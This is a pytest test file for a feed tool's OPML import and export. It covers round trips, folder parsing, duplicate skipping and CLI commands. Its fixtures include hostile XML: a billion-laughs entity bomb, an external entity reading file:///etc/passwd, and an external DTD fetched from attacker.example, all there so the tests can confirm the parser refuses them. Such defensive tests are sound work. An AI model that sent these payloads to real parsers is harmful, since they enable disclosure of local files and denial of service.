"""OPML export and import: a round trip, what readers write, and files that must be refused."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from pathlib import Path
from xml.etree import ElementTree

import pytest

from bot.cli.main import main
from bot.ingest import opml
from bot.ingest.feed_names import unique_feed_name
from bot.ingest.opml import OpmlError, OpmlFeed

NOW = datetime(2026, 3, 10, 12, 0, tzinfo=UTC)

READER_EXPORT = b"""<?xml version="1.0" encoding="UTF-8"?>
<opml version="1.0">
  <head><title>My subscriptions</title></head>
  <body>
    <outline text="Defense" title="Defense">
      <outline type="rss" text="Breaking Defense" title="Breaking Defense"
               xmlUrl="https://breakingdefense.example/feed/" htmlUrl="https://breakingdefense.example/"/>
      <outline text="War on the Rocks" xmlUrl="https://warontherocks.example/feed/" type="rss"/>
    </outline>
    <outline text="AI">
      <outline type="atom" title="Only a title" xmlUrl="https://ai.example/atom.xml" category="/Tech/ai-defense"/>
      <outline type="link" text="A web page, not a feed" url="https://example.org/"/>
    </outline>
    <outline type="rss" text="" xmlUrl="https://nameless.example/rss"/>
  </body>
</opml>
"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<opml version="2.0"><head/><body><outline text="&lol3;" xmlUrl="https://x.example/"/></body></opml>
"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE opml [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<opml version="2.0"><head/><body><outline text="&secret;" xmlUrl="https://x.example/"/></body></opml>
"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE opml SYSTEM "http://attacker.example/evil.dtd">
<opml version="2.0"><head/><body/></opml>
"""


def test_export_is_opml_2_with_topics_as_categories() -> None:
    data = opml.export([OpmlFeed("defensescoop", "https://defensescoop.example/feed/", ["ai-defense", "autonomy"]),
                        OpmlFeed("all-topics", "https://x.example/rss")], title="sitrep feeds", now=NOW)
    root = ElementTree.fromstring(data)
    assert root.tag == "opml" and root.get("version") == "2.0"
    assert root.findtext("head/title") == "sitrep feeds"
    assert root.findtext("head/dateCreated") == "Tue, 10 Mar 2026 12:00:00 +0000"
    first, second = root.findall("body/outline")
    assert first.attrib == {"type": "rss", "text": "defensescoop", "title": "defensescoop",
                            "xmlUrl": "https://defensescoop.example/feed/", "category": "/ai-defense,/autonomy"}
    assert "category" not in second.attrib


def test_round_trip_keeps_names_urls_and_topics() -> None:
    feeds = [OpmlFeed("a & b <c>", "https://x.example/feed?a=1&b=2", ["ai-defense"]),
             OpmlFeed("Ünïcode feed", "https://y.example/rss", None)]
    assert opml.parse(opml.export(feeds, title="t", now=NOW)) == feeds


def test_reader_exports_with_folders() -> None:
    feeds = opml.parse(READER_EXPORT)
    assert [(f.name, f.url) for f in feeds] == [
        ("Breaking Defense", "https://breakingdefense.example/feed/"),
        ("War on the Rocks", "https://warontherocks.example/feed/"),
        ("Only a title", "https://ai.example/atom.xml"),
        ("", "https://nameless.example/rss"),
    ]
    assert feeds[0].html_url == "https://breakingdefense.example/"
    assert feeds[2].topics == ["ai-defense"]  # the last part of a category path


@pytest.mark.parametrize("data", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD], ids=["bomb", "entity", "dtd"])
def test_dtds_and_entities_are_refused(data: bytes) -> None:
    with pytest.raises(OpmlError, match="refused"):
        opml.parse(data)


@pytest.mark.parametrize(("data", "message"), [
    (b"<opml><body>", "not well-formed"),
    (b"", "not well-formed"),
    (b"<rss version='2.0'><channel/></rss>", "root element is <rss>"),
    (b"<opml version='2.0'><head/></opml>", "no <body>"),
    (b"<opml>" + b" " * (opml.MAX_BYTES + 1) + b"</opml>", "larger than"),
])
def test_unusable_files_are_clear_errors(data: bytes, message: str) -> None:
    with pytest.raises(OpmlError, match=message):
        opml.parse(data)


def test_plan_skips_duplicates_and_bad_urls_and_makes_names_unique() -> None:
    feeds = [OpmlFeed("Defense News", "https://dn.example/rss"), OpmlFeed("Defense News", "https://dn2.example/rss"),
             OpmlFeed("Old", "https://known.example/rss"), OpmlFeed("Local", "file:///etc/passwd"),
             OpmlFeed("Typo", "https://t.example/rss", ["ai-defence"]), OpmlFeed("", "https://dn.example/rss"),
             OpmlFeed("", "https://no-name.example/feed.xml")]
    todo = opml.plan(feeds, existing_names={"defense-news-2"}, existing_urls={"https://known.example/rss"},
                     known_topics={"ai-defense"})
    assert [(name, f.url) for name, f in todo.add] == [
        ("defense-news", "https://dn.example/rss"), ("defense-news-3", "https://dn2.example/rss"),
        ("no-name-example-feed-xml", "https://no-name.example/feed.xml")]
    assert [(f.name, reason) for f, reason in todo.skipped] == [
        ("Old", "already subscribed"), ("Local", "not an http(s) URL"), ("Typo", "unknown topic 'ai-defence'"),
        ("", "already subscribed")]


def test_unique_names_are_short_and_plain() -> None:
    assert unique_feed_name(["  "], set()) == "feed"
    assert len(unique_feed_name(["x" * 500], set())) <= opml.MAX_NAME
    assert unique_feed_name(["", "https://example.org/feed.xml"], {"example-org-feed-xml"}) == "example-org-feed-xml-2"


@pytest.fixture
def cli_config(tmp_path: Path, store_url: str) -> list[str]:
    config = tmp_path / "sitrep.yaml"
    config.write_text(f"""
storage:
  url: "{store_url}"
feeds:
  - name: configured
    url: https://configured.example/feed
    topics: [ai-defense]
""", encoding="utf-8")
    return ["--config", str(config)]


def test_cli_import_then_feeds_lists_them_and_export_round_trips(
        cli_config: list[str], tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    source = tmp_path / "reader.opml"
    source.write_bytes(READER_EXPORT)
    assert main([*cli_config, "feeds", "import", str(source), "--dry-run"]) == 0
    assert "4 feeds in reader.opml: 4 would add, 0 skipped" in capsys.readouterr().err
    assert main([*cli_config, "feeds", "--format", "json"]) == 0
    assert [f["name"] for f in json.loads(capsys.readouterr().out)["feeds"]] == ["configured"]

    assert main([*cli_config, "feeds", "import", str(source)]) == 0
    assert "4 added, 0 skipped" in capsys.readouterr().err
    assert main([*cli_config, "feeds", "--format", "json"]) == 0
    listed = {f["name"]: f for f in json.loads(capsys.readouterr().out)["feeds"]}
    assert set(listed) == {"configured", "breaking-defense", "war-on-the-rocks", "only-a-title",
                           "nameless-example-rss"}
    assert listed["breaking-defense"]["origin"] == "command"

    assert main([*cli_config, "feeds", "import", str(source)]) == 0  # a second import adds nothing
    assert "0 added, 4 skipped" in capsys.readouterr().err

    exported = tmp_path / "export.opml"
    assert main([*cli_config, "feeds", "export", "--output", str(exported)]) == 0
    round_trip = {f.name: f for f in opml.parse(exported.read_bytes())}
    assert set(round_trip) == set(listed)
    assert round_trip["configured"].topics == ["ai-defense"]
    assert round_trip["only-a-title"].topics == ["ai-defense"]
    capsys.readouterr()
    assert main([*cli_config, "feeds", "export"]) == 0
    assert opml.parse(capsys.readouterr().out.encode()) == list(round_trip.values())


def test_cli_refuses_a_bomb_and_changes_nothing(cli_config: list[str], tmp_path: Path,
                                                capsys: pytest.CaptureFixture[str]) -> None:
    bomb = tmp_path / "bomb.opml"
    bomb.write_bytes(BILLION_LAUGHS)
    assert main([*cli_config, "feeds", "import", str(bomb)]) == 1
    assert "refused" in capsys.readouterr().err
    assert main([*cli_config, "feeds", "--format", "json"]) == 0
    assert [f["name"] for f in json.loads(capsys.readouterr().out)["feeds"]] == ["configured"]
